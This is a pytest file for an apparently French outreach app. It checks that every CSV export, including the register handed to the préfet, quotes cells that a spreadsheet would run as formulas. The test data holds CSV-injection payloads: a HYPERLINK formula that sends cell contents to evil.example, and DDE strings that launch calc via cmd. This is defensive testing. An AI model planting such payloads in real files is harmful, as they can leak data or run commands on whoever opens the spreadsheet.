"""Issue 14, item 4: no CSV export can run a formula. Texts typed on a tablet that a spreadsheet
would read as formulas (OWASP's CSV injection) come out with a quote before them, in the
figures' export of every form and in the register handed to the préfet."""

import csv
import io
import re
import uuid

import pytest
from sqlalchemy import select, update

from outreach.core import spreadsheet
from outreach.core.db import db
from outreach.core.models import ReferenceItem, User
from outreach.figures.dashboard import EXPORTED_FORMS
from outreach.register.models import AlertPlan
from tests.conftest import add_user
from tests.sync_helpers import Tablet
from tests.test_plans import calls_of, open_plan, outcome, registration

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+$")


def rec(form, data, parent=None, version=1):
    return {"id": str(uuid.uuid4()), "form": form, "form_version": version,
            "recorded_at": "2026-11-20T21:00:00+01:00", "parent_id": parent,
            "base_revision": None, "data": data}


def cells(answer) -> list[list[str]]:
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def assert_inert(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            if NUMBER.match(cell):
                continue  # a count or a temperature the app wrote as a number
            assert not cell.startswith(DANGEROUS), (where, cell)
            assert not cell.lstrip().startswith(DANGEROUS), (where, cell)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+33 5 55 12 34 56", "'+33 5 55 12 34 56"), ("-x", "'-x"),
    ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), (" =x", "' =x"), ("Momo", "Momo"),
    ("a=b", "a=b"), ("", ""), (-5, -5), (3, 3), ("05 55 12 34 56", "05 55 12 34 56"),
])
def test_one_rule_makes_a_cell_inert(cell, written):
    assert spreadsheet.inert(cell) == written


@pytest.fixture
def typed_on_tablets(app, auth):
    """Records of every exported form whose free texts are formulas, pushed by field agents."""
    formula = iter(FORMULAS * 10)
    for login, role in (("mara", "maraude"), ("vero", "visiteur"), ("sofi", "travailleur_social")):
        add_user(app, login, role)
    with app.app_context():
        db.session.add(ReferenceItem(list_key="sites", value="tilleuls",
                                     label="Centre social des Tilleuls", position=1))
        # An account's name is typed too (by an admin): it is the "Saisie par" column.
        db.session.execute(update(User).where(User.login == "mara").values(name="@Mara"))
        db.session.commit()
    mara, vero, sofi = (Tablet(app.test_client(), login) for login in ("mara", "vero", "sofi"))
    momo = rec("personne", {"niveau": "alias", "alias_prenom": next(formula)}, version=2)
    tournee = rec("maraude.tournee", {
        "date": "2026-11-20", "heure_depart": "20:30", "secteur": next(formula),
        "equipe": next(formula), "observations": next(formula), "temperature": -5})
    rencontre = rec("maraude.rencontre", {
        "lieu": {"label": next(formula), "lat": None, "lon": None}, "niveau": "alias",
        "personne": momo["id"], "nombre_personnes": 1, "situation_urgente": True,
        "detail_urgence": next(formula), "notes": next(formula)}, parent=tournee["id"])
    assert {r["status"] for r in mara.push(momo, tournee, rencontre)} == {"created"}
    jeanne = rec("personne", {"niveau": "alias", "alias_prenom": next(formula)}, version=2)
    visite = rec("visite.visite", {
        "personne": jeanne["id"], "date": "2026-11-20", "mode": "domicile",
        "personne_vue": "oui", "alerte": "autre", "detail_alerte": next(formula),
        "notes": next(formula)})
    assert {r["status"] for r in vero.push(jeanne, visite)} == {"created"}
    session = rec("permanence.session", {
        "site": "tilleuls", "date": "2026-11-20", "heure_debut": "14:00",
        "intervenants": next(formula), "notes": next(formula)})
    accueil = rec("permanence.accueil", {
        "niveau": "anonyme", "nombre_personnes": 1, "motifs": ["budget"],
        "situation_urgente": True, "detail_urgence": next(formula), "notes": next(formula)},
        parent=session["id"])
    assert {r["status"] for r in sofi.push(session, accueil)} == {"created"}
    # The register, typed at the office, and a plan's call typed on a tablet.
    auth.login("coordinateur")
    desk = Tablet(app.test_client(), "coordinateur")
    assert {r["status"] for r in desk.push(registration(
        "=cmd|' /C calc'!A0", "Nord", prenoms="+Marie", adresse="-3 rue des Lilas",
        contact_urgence="@Claire", service_domicile="\t=1+1", telephone="+33 5 55 12 34 56",
        notes="=HYPERLINK(\"http://evil.example\")"))} == {"created"}
    assert open_plan(auth, [add_user(app, "ana", "visiteur")]).status_code == 302
    ana = Tablet(app.test_client(), "ana")
    [call] = calls_of(ana).values()
    assert ana.push(outcome(call, "premier_appel", "joint_besoin", besoins=["eau"],
                            precision=next(formula)))[0]["status"] == "created"
    with app.app_context():
        return db.session.scalar(select(AlertPlan.id))


@pytest.mark.parametrize("form", EXPORTED_FORMS)
def test_the_figures_export_of_every_form_runs_no_formula(auth, typed_on_tablets, form):
    rows = cells(auth.client.get(f"/tableau-de-bord/export?formulaire={form}&annee=2026"))
    assert len(rows) >= 2, form  # the header and at least the record typed above
    assert_inert(rows, form)
    typed = {cell for row in rows[1:] for cell in row if cell.startswith("'")}
    assert typed, form  # the formulas are there, written as text, not dropped


def test_a_negative_number_stays_a_number_and_a_typed_text_is_quoted(auth, typed_on_tablets):
    rows = cells(auth.client.get("/tableau-de-bord/export?formulaire=maraude.tournee"
                                 "&annee=2026"))
    [line] = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert line["Température (°C)"] == "-5"
    assert line["Saisie par"] == "'@Mara"
    assert line["Secteur / itinéraire"] == "'" + FORMULAS[1]


def test_the_register_handed_to_the_prefect_runs_no_formula(auth, typed_on_tablets):
    answer = auth.client.post(f"/plans/{typed_on_tablets}/prefet", data={
        "format": "csv", "motif": "Demande de la préfecture", "csrf_token": auth.csrf_token})
    rows = cells(answer)
    assert_inert(rows, "préfet")
    line = dict(zip(rows[0], rows[1], strict=True))
    assert line["Nom"] == "'=CMD|' /C CALC'!A0"
    assert line["Prénoms"] == "'+Marie"
    assert line["Adresse"] == "'-3 rue des Lilas"
    assert line["Personne à prévenir"] == "'@Claire"
    assert line["Service intervenant à domicile"] == "'\t=1+1"
    assert line["Téléphone"] == "'+33 5 55 12 34 56"


def test_every_csv_answer_of_the_app_goes_through_the_one_writer():
    # Both exports write with french_csv (which makes every cell inert); a new CSV must too.
    from pathlib import Path

    folder = Path(__file__).parent.parent / "outreach"
    writers = [path.name for path in folder.rglob("*.py") if "csv.writer" in path.read_text()
               or "DictWriter" in path.read_text()]
    assert writers == ["spreadsheet.py"]
